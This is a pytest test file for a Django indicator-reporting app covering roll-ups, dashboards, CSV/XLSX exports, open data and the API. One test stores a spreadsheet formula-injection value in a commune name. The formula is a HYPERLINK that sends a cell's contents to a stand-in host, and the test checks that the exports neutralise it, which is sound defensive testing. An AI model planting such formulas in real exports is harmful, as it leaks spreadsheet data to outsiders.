from __future__ import annotations

import datetime as dt
from typing import Any

import time_machine
from django.urls import reverse

from danchu.reporting import queries
from danchu.reporting.periods import Period
from danchu.reporting.registry import INDICATORS

Y = Period.year(2025)


def test_values_roll_up_the_tree_with_year_on_year_change(reported: Any, province: Any, commune: Any) -> None:
    figs = {
        f.indicator.code: f
        for f in queries.figures(
            [
                INDICATORS.get("adminreform.received"),
                INDICATORS.get("adminreform.resolved_rate"),
                INDICATORS.get("newrural.standard"),
                INDICATORS.get("newrural.standard_rate"),
                INDICATORS.get("newrural.criteria_met"),
            ],
            province,
            Y,
        )
    }
    assert figs["adminreform.received"].current.value == 6600  # (1000 + 500) × 1.1 × 4
    assert figs["adminreform.received"].previous.value == 6000
    assert figs["adminreform.received"].change_text == "tăng 10% so với cùng kỳ"
    assert figs["adminreform.resolved_rate"].text == "6.556/6.600 (99,3%)"
    assert figs["newrural.standard"].current.value == 1
    assert figs["newrural.standard_rate"].text == "1/2 (50%)"
    assert figs["newrural.criteria_met"].current.value == 17
    assert queries.values("adminreform.received", commune, Period.quarter(2025, 2)).value == 1100


def test_children_table_one_row_per_commune(
    reported: Any, province: Any, commune: Any, other_commune: Any
) -> None:
    rows = {c.code: r.value for c, r in queries.by_child("adminreform.received", province, Y)}
    assert rows == {commune.code: 4400, other_commune.code: 2200}


def test_dashboard_shows_figures_children_and_who_has_not_submitted(
    reported: Any,
    client_as: Any,
    steering_member: Any,
    province: Any,
    commune: Any,
    other_commune: Any,
    django_assert_max_num_queries: Any,
) -> None:
    c = client_as(steering_member)
    with time_machine.travel(dt.datetime(2026, 1, 20, 9, 0), tick=False):
        with django_assert_max_num_queries(80):
            r = c.get(
                reverse("reporting:dashboard", args=[province.code])
                + "?period=2025&indicator=adminreform.received"
            )
    assert r.status_code == 200
    html = r.content.decode()
    assert "6.600" in html and "tăng 10% so với cùng kỳ" in html
    assert reverse("reporting:dashboard", args=[commune.code]) in html
    # 2025Q4 quarterly form was approved for both; nobody is missing.
    assert 'class="not-submitted"' not in html


def test_outsider_and_anonymous_cannot_open_a_province_dashboard(
    client_as: Any, outsider: Any, province: Any, client: Any
) -> None:
    url = reverse("reporting:dashboard", args=[province.code])
    assert client_as(outsider).get(url).status_code == 404
    assert client.get(url).status_code == 302


def test_tables_export_as_xlsx_and_csv(
    reported: Any, client_as: Any, steering_member: Any, province: Any
) -> None:
    c = client_as(steering_member)
    base = reverse("reporting:export", args=[province.code, "children", "csv"])
    r = c.get(base + "?period=2025&indicator=adminreform.received")
    assert r.status_code == 200 and "Xã Krông Pắc" in r.content.decode("utf-8-sig")
    r = c.get(reverse("reporting:export", args=[province.code, "figures", "xlsx"]) + "?period=2025")
    assert r.status_code == 200 and r.content[:2] == b"PK"


def test_open_data_publishes_public_indicators_per_commune(
    reported: Any, client: Any, province: Any, commune: Any
) -> None:
    r = client.get(
        reverse("reporting:open_data_file", args=["json"]) + f"?period=2025&province={province.code}"
    )
    data = r.json()
    row = next(x for x in data["communes"] if x["commune_code"] == commune.code)
    assert row["adminreform.received"] == 4400
    assert "workplaces.agencies" not in row  # not public
    r = client.get(reverse("reporting:open_data_file", args=["csv"]) + "?period=2025")
    assert r.status_code == 200 and "commune_code" in r.content.decode("utf-8-sig")


def test_data_entry_page_keeps_other_values_and_names_the_rule(
    forms: Any, client_as: Any, officer: Any, commune: Any
) -> None:
    url = reverse("reporting:entry", args=["QCDC-Q", commune.code, "2025Q1"])
    c = client_as(officer)
    assert c.get(url).status_code == 200
    r = c.post(
        url,
        {
            "adminreform.received": "10",
            "adminreform.resolved": "20",
            "pib.matters_supervised": "4",
            "action": "save",
        },
    )
    assert r.status_code == 422
    html = r.content.decode()
    assert "Hồ sơ đã giải quyết ≤ hồ sơ tiếp nhận" in html
    assert 'value="20"' in html  # what was typed stays on screen
    r = c.post(url, {"action": "submit", "adminreform.resolved": "9"})
    assert r.status_code == 302


def test_api_values_and_submissions(
    reported: Any, client_as: Any, steering_member: Any, province: Any, client: Any
) -> None:
    r = client.get(
        "/api/v1/reporting/values",
        {"indicator": "adminreform.received", "place": province.code, "period": "2025"},
    )
    assert r.status_code == 200 and r.json()["value"] == 6600 and r.json()["previous_year"] == 6000
    r = client.get(
        "/api/v1/reporting/values",
        {"indicator": "workplaces.agencies", "place": province.code, "period": "2025"},
    )
    assert r.status_code == 404
    c = client_as(steering_member)
    r = c.get("/api/v1/reporting/forms/QCDC-Q/submissions", {"place": province.code, "period": "2025Q4"})
    assert r.status_code == 200 and {u["status"] for u in r.json()} == {"approved"}
    assert client.get("/api/v1/reporting/indicators").status_code == 200


def test_a_place_named_like_a_formula_is_text_in_both_exports(
    reported: Any, client_as: Any, steering_member: Any, province: Any, commune: Any
) -> None:
    """Village and commune names are typed by officers (the API creates villages): an export an
    officer opens in a spreadsheet must not run one as a formula. openpyxl stores a string that
    starts with "=" as a formula, so the XLSX needs the guard as much as the CSV."""
    import io

    from openpyxl import load_workbook

    commune.name = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
    commune.save(update_fields=["name"])
    c = client_as(steering_member)
    url = reverse("reporting:export", args=[province.code, "children", "csv"]) + "?period=2025"
    body = c.get(url + "&indicator=adminreform.received").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in body and "\n=HYPERLINK" not in body
    url = reverse("reporting:export", args=[province.code, "children", "xlsx"]) + "?period=2025"
    ws = load_workbook(io.BytesIO(c.get(url + "&indicator=adminreform.received").content)).worksheets[0]
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'=HYPERLINK" in {str(cell.value)[:11] for cell in cells}


def test_the_trend_chart_names_its_periods_in_the_readers_language(
    reported: Any, client_as: Any, steering_member: Any, province: Any
) -> None:
    """Found by QA: the chart's legend was always Vietnamese ("năm 2025") in the English interface."""
    import json
    import re

    from django.conf import settings

    url = reverse("reporting:dashboard", args=[province.code]) + "?period=2025&indicator=adminreform.received"

    def legend(language: str) -> tuple[str, str]:
        c = client_as(steering_member)
        c.cookies[settings.LANGUAGE_COOKIE_NAME] = language
        html = c.get(url).content.decode()
        data = json.loads(re.search(r'id="trend-data"[^>]*>(.*?)</script>', html, re.S).group(1))
        return data["label_current"], data["label_previous"]

    assert legend("vi") == ("năm 2025", "năm 2024")
    assert legend("en") == ("2025", "2024")


def test_refresh_now_queues_one_refresh_per_period_within_the_cooldown(
    browser_as: Any, steering_member: Any, committee: Any, province: Any, settings: Any
) -> None:
    from django.core.cache import cache

    from danchu.reporting.models import RefreshRun

    settings.REPORTING_REFRESH_COOLDOWN = 300
    cache.delete_many(["reporting:refresh:2025", "reporting:refresh:2024"])
    client = browser_as(steering_member)
    url = reverse("reporting:refresh", args=[province.code])
    r = client.post_form(url, {"period": "2025"}, follow=True)
    assert r.status_code == 200 and RefreshRun.objects.filter(scope="on demand 2025").count() == 1
    page = client.post_form(url, {"period": "2025"}, follow=True).content.decode()
    assert RefreshRun.objects.filter(scope="on demand 2025").count() == 1  # the second click queued nothing
    assert "vài phút trước" in page
    client.post_form(url, {"period": "2024"})  # another period is its own refresh
    assert RefreshRun.objects.filter(scope="on demand 2024").count() == 1
    cache.delete("reporting:refresh:2025")  # the cooldown over
    client.post_form(url, {"period": "2025"})
    assert RefreshRun.objects.filter(scope="on demand 2025").count() == 2


def test_key_figures_of_every_indicator_take_two_statements_and_match_one_by_one(
    reported: Any, province: Any
) -> None:
    """The sums of both years in one UNION ALL, the counts of units in another: as many statements
    with 60 indicators as with one, and the same figures as reading each indicator alone (also for a
    period still running, compared to date)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from danchu.reporting.catalogue import all_indicators

    inds = [i for i in all_indicators() if i.overlaps(Y.start, Y.end)]
    for today in (dt.date(2026, 1, 20), dt.date(2025, 8, 14)):
        with CaptureQueriesContext(connection) as captured:
            together = queries.figures(inds, province, Y, today=today)
        reads = [q["sql"] for q in captured.captured_queries if "reporting_indicatorvalue" in q["sql"]]
        assert len(reads) == 2, reads
        alone = [queries.figures([i], province, Y, today=today)[0] for i in inds]
        assert [(f.current, f.previous) for f in together] == [(f.current, f.previous) for f in alone]
        kinds = {f.indicator.aggregation for f in together if f.current.value is not None}
        assert {"sum", "count_units"} <= kinds, kinds


def test_the_roll_up_table_is_vacuumed_after_a_few_refreshes_on_postgresql(db: Any) -> None:
    """Migration 0010: autovacuum comes after 1% of the rows changed, not PostgreSQL's 20%, so that
    the dashboards' index-only scans stop reading refreshed pages from the heap."""
    import pytest
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("storage parameters of PostgreSQL")
    with connection.cursor() as c:
        c.execute("SELECT reloptions FROM pg_class WHERE relname = 'reporting_indicatorvalue'")
        options = set(c.fetchone()[0] or [])
    assert {"autovacuum_vacuum_scale_factor=0.01", "autovacuum_vacuum_insert_scale_factor=0.01"} <= options


def test_the_reads_give_the_same_figures_with_their_sql_kept_or_compiled_anew(
    reported: Any, province: Any, commune: Any, monkeypatch: Any
) -> None:
    """core.sqlmemo keeps each read's SQL (and its rows only under the roll-ups' version): after new
    figures are rolled up, the kept SQL reads them; and the second view of a place and period builds
    no queryset."""
    from danchu.core import sqlmemo
    from danchu.reporting import rows
    from danchu.reporting.catalogue import all_indicators

    inds = [i for i in all_indicators() if i.overlaps(Y.start, Y.end)]
    chosen = INDICATORS.get("adminreform.received")

    def read() -> tuple[Any, ...]:
        figs = [(f.indicator.code, f.current, f.previous) for f in queries.figures(inds, province, Y)]
        kids = [(c.code, r) for c, r in queries.by_child(chosen, province, Y)]
        return figs, kids, queries.trend(chosen, province, Y), queries.breakdowns(chosen, province, Y)

    sqlmemo.clear()
    anew = read()
    built: list[str] = []
    real_value_rows = rows.value_rows
    monkeypatch.setattr(queries, "value_rows", lambda *a, **k: built.append("v") or real_value_rows(*a, **k))
    assert read() == anew
    assert built == []  # every read's SQL was kept
    monkeypatch.undo()
    sqlmemo.clear()
    assert read() == anew

    # New figures after the SQL was kept: read at once (a write to the roll-ups changes their
    # version, as every write path does: test_rollup_reads_kept.py).
    from danchu.reporting.models import IndicatorValue, RollupVersion

    IndicatorValue.objects.filter(indicator="adminreform.received", commune_id=commune.pk).update(value=0)
    RollupVersion.bump()
    figs, kids, _trend, _breakdowns = read()
    assert dict((code, cur.value) for code, cur, _prev in figs)["adminreform.received"] == 2200
    assert dict((code, r.value) for code, r in kids)[commune.code] == 0


def test_pages_listing_the_places_below_read_them_in_a_fixed_number_of_queries(
    reported: Any, client_as: Any, client: Any, steering_member: Any, province: Any, commune: Any
) -> None:
    # The drill-down reads only some columns of each place below (queries.CHILD_FIELDS): a field
    # left out and then used by a page would cost one query per commune. Ten more communes, with
    # coordinates for the map, must not add a query to any page that lists them.
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from danchu.places.tests import factories as pf

    staff = client_as(steering_member)
    pages = [
        (
            staff,
            reverse("reporting:dashboard", args=[province.code])
            + "?period=2025&indicator=adminreform.received",
        ),
        (
            staff,
            reverse("reporting:export", args=[province.code, "children", "csv"])
            + "?period=2025&indicator=adminreform.received",
        ),
        (
            staff,
            reverse("reporting:pivot", args=[province.code])
            + "?indicator=adminreform.received&rows=children&period=2025",
        ),
        (client, reverse("reporting:home") + f"?place={province.code}&period=2025"),
        (
            client,
            reverse("reporting:open_data_file", args=["json"]) + f"?period=2025&province={province.code}",
        ),
    ]

    def counts() -> list[int]:
        out = []
        with time_machine.travel(dt.datetime(2026, 1, 20, 9, 0), tick=False):
            for c, url in pages:
                c.get(url)  # warm: sessions, the catalogue's defaults
                with CaptureQueriesContext(connection) as q:
                    r = c.get(url)
                assert r.status_code == 200, url
                out.append(len(q.captured_queries))
        return out

    before = counts()
    for n in range(10):
        pf.commune(province, code=f"2420{n}", name=f"Xã Thử {n}", latitude=12.6 + n / 100, longitude=108.0)
    assert counts() == before
